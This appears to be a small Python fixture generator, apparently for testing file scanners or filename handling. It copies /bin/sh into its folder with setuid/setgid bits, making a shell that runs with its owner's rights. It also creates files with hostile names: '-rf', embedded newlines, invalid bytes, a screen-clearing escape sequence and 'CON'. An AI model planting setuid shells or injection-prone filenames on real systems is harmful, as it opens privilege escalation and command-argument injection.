# Leaves a program in its folder that runs with the rights of its owner, and files with odd names.
import os
import shutil

shutil.copy("/bin/sh", "sh")
os.chmod("sh", 0o6755)
for name in (b"-rf", b"a\nb", b"\xff\xfe", b"x" * 255, b" ", b"\x1b[2J", b"CON", b"..."):
    open(name, "w").close()
